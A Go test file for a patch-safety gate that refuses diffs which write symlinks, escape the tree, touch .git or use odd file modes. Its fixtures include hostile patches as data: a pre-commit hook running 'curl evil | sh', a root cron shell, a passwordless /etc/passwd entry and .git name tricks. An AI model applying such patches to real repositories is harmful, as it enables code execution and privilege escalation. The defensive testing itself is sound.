package difftext

import (
	"os"
	"os/exec"
	"path/filepath"
	"strings"
	"testing"

	"github.com/stretchr/testify/assert"
	"github.com/stretchr/testify/require"
)

// unsafePatches are patches the gate must refuse, each with the rule and path it must name.
var unsafePatches = []struct {
	name, patch string
	rule        Rule
	path        string
}{
	{"new symlink", "diff --git a/tests/link b/tests/link\nnew file mode 120000\nindex 0000000..3594e94\n--- /dev/null\n+++ b/tests/link\n@@ -0,0 +1 @@\n+/etc/passwd\n\\ No newline at end of file\n",
		RuleSymlink, "tests/link"},
	{"symlink target changed (index line)", "diff --git a/link b/link\nindex 3594e94..4a1b2c3 120000\n--- a/link\n+++ b/link\n@@ -1 +1 @@\n-target\n\\ No newline at end of file\n+/etc/shadow\n\\ No newline at end of file\n",
		RuleSymlink, "link"},
	{"symlink deleted", "diff --git a/link b/link\ndeleted file mode 120000\nindex 3594e94..0000000\n--- a/link\n+++ /dev/null\n@@ -1 +0,0 @@\n-target\n\\ No newline at end of file\n",
		RuleSymlink, "link"},
	{"file turned into a symlink", "diff --git a/conf.py b/conf.py\nold mode 100644\nnew mode 120000\n", RuleSymlink, "conf.py"},
	{"symlink renamed", "diff --git a/l1 b/l2\nold mode 120000\nnew mode 120000\nsimilarity index 100%\nrename from l1\nrename to l2\n", RuleSymlink, "l2"},
	{"gitlink", "diff --git a/vendor/lib b/vendor/lib\nnew file mode 160000\nindex 0000000..1234567\n--- /dev/null\n+++ b/vendor/lib\n@@ -0,0 +1 @@\n+Subproject commit 1234567890123456789012345678901234567890\n",
		RuleMode, "vendor/lib"},
	{"gitlink in the index line", "diff --git a/sub b/sub\nindex 1234567..89abcde 160000\n--- a/sub\n+++ b/sub\n@@ -1 +1 @@\n-Subproject commit 1234567\n+Subproject commit 89abcde\n",
		RuleMode, "sub"},
	{"device mode", "diff --git a/dev b/dev\nnew file mode 020644\nindex 0000000..e69de29\n", RuleMode, "dev"},
	{"directory mode", "diff --git a/d b/d\nold mode 100644\nnew mode 040000\n", RuleMode, "d"},
	{"group-writable mode", "diff --git a/x.py b/x.py\nold mode 100644\nnew mode 100664\n", RuleMode, "x.py"},
	{"traversal in git names", "diff --git a/../../etc/cron.d/x b/../../etc/cron.d/x\nnew file mode 100644\nindex 0000000..1111111\n--- /dev/null\n+++ b/../../etc/cron.d/x\n@@ -0,0 +1 @@\n+* * * * * root sh\n",
		RuleOutside, "../../etc/cron.d/x"},
	{"traversal inside a path", "diff --git a/tests/../../x b/tests/../../x\n--- a/tests/../../x\n+++ b/tests/../../x\n@@ -1 +1 @@\n-a\n+b\n",
		RuleOutside, "tests/../../x"},
	{"absolute path on +++", "diff --git a/x b/x\nnew file mode 100644\n--- /dev/null\n+++ b//etc/passwd\n@@ -0,0 +1 @@\n+root::0:0::/:/bin/sh\n",
		RuleOutside, "/etc/passwd"},
	{"rename out of the tree", "diff --git a/a.py b/a.py\nsimilarity index 100%\nrename from a.py\nrename to ../a.py\n", RuleOutside, "../a.py"},
	{"copy out of the tree", "diff --git a/a.py b/x\nsimilarity index 100%\ncopy from a.py\ncopy to /tmp/a.py\n", RuleOutside, "/tmp/a.py"},
	{"quoted traversal", "diff --git \"a/\\056\\056/x\" \"b/\\056\\056/x\"\n--- \"a/\\056\\056/x\"\n+++ \"b/\\056\\056/x\"\n@@ -1 +1 @@\n-a\n+b\n",
		RuleOutside, "../x"},
	{"quoted rename target", "diff --git a/x b/y\nsimilarity index 90%\nrename from x\nrename to \"\\056./y\"\n", RuleOutside, "../y"},
	{"unquoted header read two ways", "diff --git a/ok b/ok ../../../etc/passwd\nold mode 100644\nnew mode 100755\n", RuleOutside, "../../../etc/passwd"},
	{"whitespace after ..", "diff --git a/x b/x\n--- a/..\r\r\n+++ b/x\n@@ -1 +1 @@\n-a\n+b\n", RuleOutside, ".."},
	{".git hooks", "diff --git a/.git/hooks/pre-commit b/.git/hooks/pre-commit\nnew file mode 100755\nindex 0000000..1111111\n--- /dev/null\n+++ b/.git/hooks/pre-commit\n@@ -0,0 +1 @@\n+curl evil | sh\n",
		RuleGitDir, ".git/hooks/pre-commit"},
	{".git in another case", "diff --git a/sub/.GiT/config b/sub/.GiT/config\n--- a/sub/.GiT/config\n+++ b/sub/.GiT/config\n@@ -1 +1 @@\n-a\n+b\n",
		RuleGitDir, "sub/.GiT/config"},
	{".git with a trailing dot (NTFS)", "diff --git a/.git./config b/.git./config\n--- a/.git./config\n+++ b/.git./config\n@@ -1 +1 @@\n-a\n+b\n",
		RuleGitDir, ".git./config"},
	{"NTFS short name of .git", "diff --git a/GIT~1/config b/GIT~1/config\n--- a/GIT~1/config\n+++ b/GIT~1/config\n@@ -1 +1 @@\n-a\n+b\n",
		RuleGitDir, "GIT~1/config"},
	{".git with a zero-width joiner (HFS+)", "diff --git \"a/.g\\342\\200\\214it/config\" \"b/.g\\342\\200\\214it/config\"\n--- \"a/.g\\342\\200\\214it/config\"\n+++ \"b/.g\\342\\200\\214it/config\"\n@@ -1 +1 @@\n-a\n+b\n",
		RuleGitDir, ".g\u200cit/config"},
	{"plain diff out of the tree", "--- a/../setup.py\n+++ b/../setup.py\n@@ -1 +1 @@\n-a\n+b\n", RuleOutside, "../setup.py"},
	{"plain diff absolute", "--- /etc/passwd\t2024-01-01 00:00:00\n+++ /etc/passwd\t2024-01-02 00:00:00\n@@ -1 +1 @@\n-a\n+b\n", RuleOutside, "/etc/passwd"},
	{"plain diff into .git", "--- a/.git/config\n+++ b/.git/config\n@@ -1 +1 @@\n-a\n+b\n", RuleGitDir, ".git/config"},
	{"plain diff, second section", "--- a/x.py\n+++ b/x.py\n@@ -1 +1 @@\n-a\n+b\n--- a/y.py\n+++ b/../../y.py\n@@ -1 +1 @@\n-a\n+b\n",
		RuleOutside, "../../y.py"},
	{"NUL in a quoted name", "diff --git \"a/x\\000y\" \"b/x\\000y\"\n--- \"a/x\\000y\"\n+++ \"b/x\\000y\"\n@@ -1 +1 @@\n-a\n+b\n", RuleBadPath, "x\x00y"},
	{"dot component", "diff --git a/./x b/./x\n--- a/./x\n+++ b/./x\n@@ -1 +1 @@\n-a\n+b\n", RuleBadPath, "./x"},
	{"double slash", "diff --git a/d//x b/d//x\n--- a/d//x\n+++ b/d//x\n@@ -1 +1 @@\n-a\n+b\n", RuleBadPath, "d//x"},
	{"context diff for patch(1) only", "Fix things.\n*** a/../x\n--- b/../x\n***************\n*** 1 ****\n! a\n--- 1 ----\n! b\n",
		RuleStray, "*** a/../x"},
	{"indented unified diff before a git section", "   --- a/../x\n   +++ b/../x\n   @@ -1 +1 @@\n   -a\n   +b\ndiff --git a/y b/y\n--- a/y\n+++ b/y\n@@ -1 +1 @@\n-a\n+b\n",
		RuleStray, "   --- a/../x"},
	{"ed script", "1c\nevil\n.\n", RuleStray, "1c"},
	{"Index line", "Index: ../../etc/passwd\n", RuleStray, "Index: ../../etc/passwd"},
}

func TestCheckPatchRefuses(t *testing.T) {
	t.Parallel()
	for _, tc := range unsafePatches {
		t.Run(tc.name, func(t *testing.T) {
			t.Parallel()
			err := CheckPatch(tc.patch)
			var ue *UnsafePatchError
			require.ErrorAs(t, err, &ue, "%v", err)
			found := false
			for _, v := range ue.Violations {
				found = found || (v.Rule == tc.rule && v.Path == tc.path)
				assert.Positive(t, v.Line)
				assert.NotEmpty(t, v.Why)
			}
			assert.True(t, found, "want %s %q among %v", tc.rule, tc.path, ue.Violations)
			assert.Contains(t, ue.Rules(), tc.rule)
			assert.Contains(t, err.Error(), string(tc.rule))
		})
	}
}

func TestCheckPatchPasses(t *testing.T) {
	t.Parallel()
	for name, patch := range map[string]string{
		"empty":           "",
		"blank":           "\n\n",
		"hand-made diff":  handDiff,
		"three dots":      "diff --git a/src/.../x...py b/src/.../x...py\n--- a/src/.../x...py\n+++ b/src/.../x...py\n@@ -1 +1 @@\n-a\n+b\n",
		"dots in names":   "diff --git a/a..b/..c b/a..b/..c\nnew file mode 100644\nindex 0000000..1111111\n--- /dev/null\n+++ b/a..b/..c\n@@ -0,0 +1 @@\n+x\n",
		".gitignore":      "diff --git a/.gitignore b/.gitignore\nindex 1111111..2222222 100644\n--- a/.gitignore\n+++ b/.gitignore\n@@ -1 +1,2 @@\n *.pyc\n+build/\n",
		"a.git directory": "diff --git a/a.git/config b/a.git/config\nnew file mode 100644\nindex 0000000..1111111\n--- /dev/null\n+++ b/a.git/config\n@@ -0,0 +1 @@\n+x\n",
		".github and .gitattributes": "diff --git a/.github/workflows/ci.yml b/.github/workflows/ci.yml\n--- a/.github/workflows/ci.yml\n+++ b/.github/workflows/ci.yml\n@@ -1 +1 @@\n-a\n+b\n" +
			"diff --git a/.gitattributes b/.gitattributes\ndeleted file mode 100644\nindex 1111111..0000000\n--- a/.gitattributes\n+++ /dev/null\n@@ -1 +0,0 @@\n-* text=auto\n",
		"executable bit":                  "diff --git a/run.sh b/run.sh\nold mode 100644\nnew mode 100755\n",
		"new executable":                  "diff --git a/run.sh b/run.sh\nnew file mode 100755\nindex 0000000..1111111\n--- /dev/null\n+++ b/run.sh\n@@ -0,0 +1 @@\n+echo\n",
		"rename in the tree":              "diff --git a/old name.py b/new name.py\nsimilarity index 90%\nrename from old name.py\nrename to new name.py\nindex 4444444..5555555 100644\n--- a/old name.py\t\n+++ b/new name.py\t\n@@ -1 +1 @@\n-x = 1\n+x = 2\n",
		"quoted unicode":                  "diff --git \"a/caf\\303\\251.py\" \"b/caf\\303\\251.py\"\nindex 1111111..2222222 100644\n--- \"a/caf\\303\\251.py\"\n+++ \"b/caf\\303\\251.py\"\n@@ -1 +1 @@\n-a\n+b\n",
		"plain with times":                "--- calc.py.orig\t2024-01-01 10:00:00.000000000 +0100\n+++ calc.py\t2024-01-01 10:05:00.000000000 +0100\n@@ -1 +1 @@\n-a\n+b\n",
		"plain, a/ b/":                    "--- a/x.py\n+++ b/x.py\n@@ -1 +1 @@\n-a\n+b\n",
		"binary":                          "diff --git a/logo.png b/logo.png\nindex 1111111..2222222 100644\nGIT binary patch\nliteral 3\nKcmZ?wbN&n\n\nliteral 0\nKcmV+b0RR6000031\n\n",
		"mail preamble":                   "From 1234 Mon Sep 17 00:00:00 2001\nSubject: [PATCH] fix 2d arrays\n\nIt was broken in 1st place.\n---\n x.py | 2 +-\n\ndiff --git a/x.py b/x.py\n--- a/x.py\n+++ b/x.py\n@@ -1 +1 @@\n-a\n+b\n",
		"content that looks like headers": "diff --git a/x b/x\n--- a/x\n+++ b/x\n@@ -1,2 +1,2 @@\n--- a/../../etc/passwd\n+++ b/.git/config\n new file mode 120000\n",
	} {
		assert.NoError(t, CheckPatch(patch), name)
	}
}

// TestCheckPatchLoose: patches Parse refuses (hunk counts that do not add up, which git
// apply --recount still applies; garbage between sections, which git skips) are read line
// by line, every line that could be a header checked as one.
func TestCheckPatchLoose(t *testing.T) {
	t.Parallel()
	// A model's hand-made patch whose header undercounts its lines: harmless, it passes.
	miscounted := "diff --git a/tests/test_slug.py b/tests/test_slug.py\n--- a/tests/test_slug.py\n+++ b/tests/test_slug.py\n" +
		"@@ -29,5 +29,2 @@ def test_titles(sample_titles):\n \n \n-def test_symbols_survive():\n-    assert True\n-\n-\n def test_slug_cache_is_warm():\n"
	_, err := Parse(miscounted)
	require.Error(t, err)
	require.NoError(t, CheckPatch(miscounted))
	require.NoError(t, CheckPatch("diff --git a/x.py b/x.py\n--- a/x.py\n+++ b/x.py\n@@ -1 +1 @@\n-a\n+b\n    index = 0\nsome words\n"))

	for name, tc := range map[string]struct {
		patch string
		rule  Rule
		path  string
	}{
		"symlink after garbage": {"diff --git a/x b/x\n--- a/x\n+++ b/x\n@@ -1 +1 @@\n-a\n+b\nsome garbage\ndiff --git a/y b/y\nnew file mode 120000\n",
			RuleSymlink, "y"},
		"traversal after a miscounted hunk": {miscounted + "--- a/../../x\n+++ b/../../x\n@@ -1 +1 @@\n-a\n+b\n", RuleOutside, "../../x"},
		"indented header in garbage":        {"diff --git a/x b/x\n--- a/x\n+++ b/x\n@@ -1 +1 @@\n-a\n+b\nwords\n\t+++ b/.git/config\n", RuleGitDir, ".git/config"},
		"context diff in garbage":           {"diff --git a/x b/x\n--- a/x\n+++ b/x\n@@ -1 +1 @@\n-a\n+b\nwords\nX*** a/x\n", RuleStray, "X*** a/x"},
	} {
		err := CheckPatch(tc.patch)
		var ue *UnsafePatchError
		require.ErrorAs(t, err, &ue, name)
		found := false
		for _, v := range ue.Violations {
			found = found || (v.Rule == tc.rule && v.Path == tc.path)
		}
		assert.True(t, found, "%s: want %s %q among %v", name, tc.rule, tc.path, ue.Violations)
	}
}

func TestCheckPatchErrorNamesEveryPath(t *testing.T) {
	t.Parallel()
	patch := unsafePatches[0].patch + unsafePatches[10].patch + unsafePatches[19].patch
	err := CheckPatch(patch)
	var ue *UnsafePatchError
	require.ErrorAs(t, err, &ue)
	assert.Equal(t, []Rule{RuleSymlink, RuleOutside, RuleGitDir}, ue.Rules())
	for _, p := range []string{"tests/link", "../../etc/cron.d/x", ".git/hooks/pre-commit"} {
		assert.Contains(t, err.Error(), `"`+p+`"`)
	}
	// Lines count through the whole patch.
	assert.Equal(t, 2, ue.Violations[0].Line)
	assert.Greater(t, ue.Violations[len(ue.Violations)-1].Line, strings.Count(unsafePatches[0].patch+unsafePatches[10].patch, "\n"))
}

// TestCheckPatchGitOutput checks the gate against git's own diffs: the real repository's
// diff passes; a commit that adds a symlink is refused, and so is one that turns a file
// into a submodule.
func TestCheckPatchGitOutput(t *testing.T) {
	t.Parallel()
	ctx := t.Context()
	r := realRepo(t)
	diff, err := GitDiff(ctx, r.Dir, r.Commits["base"], r.Commits["fix"])
	require.NoError(t, err)
	require.NoError(t, CheckPatch(diff))

	dir := gitRepo(t)
	require.NoError(t, os.Symlink("/etc/passwd", filepath.Join(dir, "tests", "fixture.txt")))
	gitRun(t, dir, "add", "-A")
	gitRun(t, dir, "commit", "-qm", "link")
	diff, err = GitDiff(ctx, dir, "HEAD~1", "HEAD")
	require.NoError(t, err)
	var ue *UnsafePatchError
	require.ErrorAs(t, CheckPatch(diff), &ue)
	assert.Equal(t, RuleSymlink, ue.Violations[0].Rule)
	assert.Equal(t, "tests/fixture.txt", ue.Violations[0].Path)

	gitRun(t, dir, "update-index", "--add", "--cacheinfo", "160000,"+strings.Repeat("ab", 20)+",vendor/lib")
	gitRun(t, dir, "commit", "-qm", "submodule")
	diff, err = GitDiff(ctx, dir, "HEAD~1", "HEAD")
	require.NoError(t, err)
	require.ErrorAs(t, CheckPatch(diff), &ue)
	assert.Equal(t, RuleMode, ue.Violations[0].Rule)
	assert.Equal(t, "vendor/lib", ue.Violations[0].Path)
}

// TestCheckPatchAt: what the text does not show, the repository does: a hunk that rewrites
// a link's target without a mode line, a file created beneath a linked directory, a rename
// of a link (git writes no mode for it), a file inside a submodule.
func TestCheckPatchAt(t *testing.T) {
	t.Parallel()
	ctx := t.Context()
	dir := gitRepo(t)
	require.NoError(t, os.Symlink("target.txt", filepath.Join(dir, "link")))
	require.NoError(t, os.Symlink("/etc", filepath.Join(dir, "etc")))
	gitRun(t, dir, "add", "-A")
	gitRun(t, dir, "update-index", "--add", "--cacheinfo", "160000,"+strings.Repeat("ab", 20)+",vendor/lib")
	gitRun(t, dir, "commit", "-qm", "links")
	head := strings.TrimSpace(gitRun(t, dir, "rev-parse", "HEAD"))

	for name, tc := range map[string]struct {
		patch string
		rule  Rule
		path  string
	}{
		"link rewritten": {"diff --git a/link b/link\nindex 1111111..2222222\n--- a/link\n+++ b/link\n@@ -1 +1 @@\n-target.txt\n\\ No newline at end of file\n+/etc/shadow\n\\ No newline at end of file\n",
			RuleSymlink, "link"},
		"beneath a link": {"diff --git a/etc/cron.d/x b/etc/cron.d/x\nnew file mode 100644\nindex 0000000..1111111\n--- /dev/null\n+++ b/etc/cron.d/x\n@@ -0,0 +1 @@\n+x\n",
			RuleSymlink, "etc/cron.d/x"},
		"link renamed": {"diff --git a/link b/link2\nsimilarity index 100%\nrename from link\nrename to link2\n", RuleSymlink, "link"},
		"in a submodule": {"diff --git a/vendor/lib/x.py b/vendor/lib/x.py\nnew file mode 100644\nindex 0000000..1111111\n--- /dev/null\n+++ b/vendor/lib/x.py\n@@ -0,0 +1 @@\n+x\n",
			RuleMode, "vendor/lib/x.py"},
	} {
		err := CheckPatchAt(ctx, dir, head, tc.patch)
		var ue *UnsafePatchError
		require.ErrorAs(t, err, &ue, name)
		assert.Equal(t, tc.rule, ue.Violations[0].Rule, name)
		assert.Equal(t, tc.path, ue.Violations[0].Path, name)
	}
	ok := "diff --git a/tests/test_x.py b/tests/test_x.py\n--- a/tests/test_x.py\n+++ b/tests/test_x.py\n@@ -1 +1 @@\n-x = 1\n+x = 2\n"
	require.NoError(t, CheckPatchAt(ctx, dir, head, ok))
	require.NoError(t, CheckPatchAt(ctx, dir, head, ""))
	// The text rules come first.
	var ue *UnsafePatchError
	require.ErrorAs(t, CheckPatchAt(ctx, dir, head, unsafePatches[0].patch), &ue)
}

// gitRepo makes a repository with one commit holding tests/test_x.py.
func gitRepo(t *testing.T) string {
	t.Helper()
	dir := t.TempDir()
	require.NoError(t, os.MkdirAll(filepath.Join(dir, "tests"), 0o755))
	require.NoError(t, os.WriteFile(filepath.Join(dir, "tests", "test_x.py"), []byte("x = 1\n"), 0o644))
	gitRun(t, dir, "init", "-q")
	gitRun(t, dir, "add", "-A")
	gitRun(t, dir, "commit", "-qm", "base")
	return dir
}

func gitRun(t *testing.T, dir string, args ...string) string {
	t.Helper()
	cmd := exec.Command("git", append([]string{"-c", "user.name=t", "-c", "user.email=t@example.com", "-c", "commit.gpgsign=false"}, args...)...)
	cmd.Dir = dir
	cmd.Env = append(os.Environ(), "GIT_CONFIG_GLOBAL=/dev/null", "GIT_CONFIG_NOSYSTEM=1")
	out, err := cmd.CombinedOutput()
	require.NoError(t, err, "git %v: %s", args, out)
	return string(out)
}
